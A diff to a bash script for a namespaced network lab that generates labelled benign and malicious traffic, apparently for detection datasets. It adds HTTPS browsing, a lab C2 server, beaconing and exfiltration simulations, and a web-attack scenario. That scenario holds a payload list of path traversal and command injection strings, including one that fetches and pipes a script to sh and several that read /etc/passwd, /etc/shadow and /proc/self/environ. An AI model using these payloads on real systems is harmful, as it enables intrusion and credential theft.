@@ -17,7 +17,7 @@ LAB_DIR=$(cd "$(dirname "$0")" && pwd)
 # Debian packages of every tool the lab runs (docs/lab.md's apt-get line).
 PACKAGES="iproute2 iputils-ping ethtool tcpdump gzip procps nginx-light openssh-server openssh-client vsftpd
 dnsmasq-base iperf3 python3 curl wget dnsutils nmap masscan hping3 slowhttptest apache2-utils hydra medusa ncrack
-sqlmap iodine"
+sqlmap iodine openssl"
 OUT= SEED=1 ONLY= SHORT=0 LIST=0 GZIP=0 LINK= BACKGROUND=1
 while [ $# -gt 0 ]; do
 	case $1 in
@@ -54,6 +54,7 @@ resolver|benign|busy server: DNS resolver|dig
 monitor|benign|busy client: monitor polling every second|curl, dig, ping
 failures|benign|ordinary failures: refused, aborted, unanswered|curl, dig
 loopback|benign|loopback: local HTTP on lo|curl
+https|benign|web browsing (HTTPS)|curl
 nmap-syn|malicious|scan: nmap TCP SYN|nmap
 nmap-connect|malicious|scan: nmap TCP connect|nmap
 nmap-udp|malicious|scan: nmap UDP|nmap
@@ -72,6 +73,10 @@ hydra-ftp|malicious|brute force: FTP|hydra
 hydra-web|malicious|brute force: web login|hydra
 sqlmap|malicious|web: SQL injection|sqlmap
 iodine|malicious|tunnel: DNS (iodine)|iodine
+webattack|malicious|web: path traversal and command injection|curl
+beacon|malicious|c2: HTTPS beacon with jitter|curl
+exfil|malicious|exfiltration: HTTPS upload|curl
+tls-odd|malicious|c2: unusual TLS client|openssl
 '
 
 if [ "$LIST" = 1 ]; then
@@ -82,7 +87,7 @@ fi
 [ "$(id -u)" = 0 ] || { echo "lab: needs root (network namespaces, raw sockets)" >&2; exit 1; }
 missing=
 for t in ip ping ethtool tcpdump nginx sshd vsftpd dnsmasq iperf3 python3 curl wget dig ssh scp nmap masscan hping3 \
-	slowhttptest ab hydra medusa ncrack sqlmap iodine iodined ssh-keygen; do
+	slowhttptest ab hydra medusa ncrack sqlmap iodine iodined ssh-keygen openssl; do
 	command -v "$t" >/dev/null 2>&1 || [ -x "/usr/sbin/$t" ] || missing="$missing $t"
 done
 [ -z "$missing" ] || { echo "lab: missing tools:$missing (install them with the apt-get line in docs/lab.md)" >&2; exit 1; }
@@ -231,8 +236,13 @@ servers_up() {
 		  keepalive_timeout 15;
 		  server { listen 80; root $w/www; index index.html;
 		    location /status { default_type application/json; return 200 '{"ok":true}'; } }
+		  server { listen 443 ssl http2; root $w/www; index index.html;
+		    ssl_certificate $w/tls.crt; ssl_certificate_key $w/tls.key; }
 		}
 	EOF
+	# TLS: one self-signed certificate for the web server and the c2 host
+	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=lab.example \
+		-addext "subjectAltName=DNS:*.lab.example" -keyout "$w/tls.key" -out "$w/tls.crt" 2>/dev/null
 	ip netns exec "$P-srv" nginx -c "$w/nginx.conf" &
 	ip netns exec "$P-srv" python3 "$LAB_DIR/webapp.py" --port 8080 --db "$w/app.db" 2>"$w/webapp.log" &
 	ssh-keygen -q -t ed25519 -N '' -f "$w/hostkey"
@@ -282,10 +292,12 @@ servers_up() {
 	ip netns exec "$P-srv" python3 -m http.server 8000 --directory "$w/www" >/dev/null 2>&1 &
 	# iodine's server: the attacker's own DNS server on the c2 host.
 	ip netns exec "$P-c2" iodined -f -c -P lab-tunnel-pw -l "${IP[c2]}" 172.30.0.1/24 t.lab.example >"$w/iodined.log" 2>&1 &
+	# the attacker's HTTPS command-and-control server, on the c2 host
+	ip netns exec "$P-c2" python3 "$LAB_DIR/c2.py" --port 443 --cert "$w/tls.crt" --key "$w/tls.key" 2>"$w/c2.log" &
 	disown -a # the servers end with their namespaces (cleanup), silently
 	local i
 	for i in $(seq 50); do
-		on cli1 timeout 3 bash -c "exec 3<>/dev/tcp/${IP[srv]}/80 && exec 4<>/dev/tcp/${IP[srv]}/8080 && exec 5<>/dev/tcp/${IP[srv]}/22 && exec 6<>/dev/tcp/${IP[srv]}/21 && exec 7<>/dev/tcp/${IP[srv]}/8000" 2>/dev/null && return 0
+		on cli1 timeout 3 bash -c "exec 3<>/dev/tcp/${IP[srv]}/80 && exec 4<>/dev/tcp/${IP[srv]}/8080 && exec 5<>/dev/tcp/${IP[srv]}/22 && exec 6<>/dev/tcp/${IP[srv]}/21 && exec 7<>/dev/tcp/${IP[srv]}/8000 && exec 8<>/dev/tcp/${IP[srv]}/443 && exec 9<>/dev/tcp/${IP[c2]}/443" 2>/dev/null && return 0
 		sleep 0.2
 	done
 	echo "lab: servers did not start (see $w)" >&2
@@ -503,6 +515,16 @@ scn_background() { # light ordinary traffic beside every attack (BACKGROUND=1)
 	done
 }
 
+scn_https() { # pages over HTTPS with a server name, HTTP/2 or HTTP/1.1
+	local n i
+	n=$(scale $(rnd 30 60))
+	for i in $(seq "$n"); do
+		on "$(client)" curl -sk "$(pick --http2 --http2 --http1.1)" --resolve "www.lab.example:443:${IP[srv]}" -o /dev/null -o /dev/null \
+			"https://www.lab.example/$(pick index about news contact hello).html" "https://www.lab.example/files/f$(pick 1 4 16).bin"
+		sleep "0.$(rnd 0 5)"
+	done
+}
+
 # ---------------------------------------------------------------- malicious
 A() { on atk "$@"; } # run on the attacker host
 T=${IP[srv]}
@@ -538,6 +560,49 @@ scn_hydra_web() {
 scn_sqlmap() {
 	A sqlmap -u "$S:8080/search?q=apple" --batch --level "$(rnd 1 3)" --risk 1 --threads "$(rnd 1 4)" \
 		--dump -T users --output-dir "$WORK/sqlmap" --disable-coloring || true
+}
+scn_webattack() { # path traversal and command injection probes, one connection each
+	local n i p
+	local payloads=('../../../../etc/passwd' '..%2f..%2f..%2f..%2fetc%2fshadow' '....//....//....//etc/passwd'
+		'%2e%2e%2f%2e%2e%2fetc%2fhosts' ';cat%20/etc/passwd' '|id' '%24(id)' '%60uname%20-a%60' '%0acat%20/etc/passwd'
+		'1;wget%20http://10.77.0.53/x.sh%20-O-|sh' '..%5c..%5cwindows%5cwin.ini' '/proc/self/environ')
+	n=$(scale $(rnd 60 150))
+	for i in $(seq "$n"); do
+		p=${payloads[$(rnd 0 $((${#payloads[@]} - 1)))]}
+		case $(rnd 0 3) in
+		0) A curl -s -o /dev/null --path-as-is "$S/static/$p" ;;
+		1) A curl -s -o /dev/null -H 'User-Agent:' "$S:8080/search?q=$p" ;;
+		*) A curl -s -o /dev/null -A "$(pick 'Mozilla/5.0' 'python-requests/2.31' 'Go-http-client/1.1')" "$S:8080/search?q=apple$p" ;;
+		esac
+		sleep "0.0$(rnd 0 9)"
+	done
+}
+scn_beacon() { # an implant polling its C2 over HTTPS: every 2–4 s, with up to 1.5 s of jitter
+	local base
+	base=$(rnd 2 4)
+	while :; do
+		A curl -sk --resolve "update.lab.example:443:${IP[c2]}" -o /dev/null "https://update.lab.example/task?id=$(rnd 1000 9999)"
+		sleep "$((base - 1)).$(rnd 0 9)"
+		sleep "0.$(rnd 0 5)"
+	done
+}
+scn_exfil() { # uploads of several MB to the C2 over HTTPS
+	local n i
+	n=$(scale $(rnd 3 6))
+	for i in $(seq "$n"); do
+		head -c "$(rnd 1 6)000000" /dev/urandom | A curl -sk --resolve "backup.lab.example:443:${IP[c2]}" -o /dev/null \
+			-H 'Content-Type: application/octet-stream' --data-binary @- "https://backup.lab.example/upload"
+		sleep "$(rnd 1 3)"
+	done
+}
+scn_tls_odd() { # a TLS client with an unusual fingerprint: TLS 1.2 only, old CBC ciphers, no server name
+	local n i
+	n=$(scale $(rnd 20 50))
+	for i in $(seq "$n"); do
+		A timeout 5 openssl s_client -connect "${IP[c2]}:443" -noservername -tls1_2 -no_ticket \
+			-cipher "$(pick ECDHE-ECDSA-AES128-SHA ECDHE-ECDSA-AES256-SHA AES128-SHA)" </dev/null >/dev/null 2>&1 || true
+		sleep "0.$(rnd 1 9)"
+	done
 }
 scn_iodine() {
 	A iodine -f -P lab-tunnel-pw -r "${IP[c2]}" t.lab.example >"$WORK/iodine.log" 2>&1 &
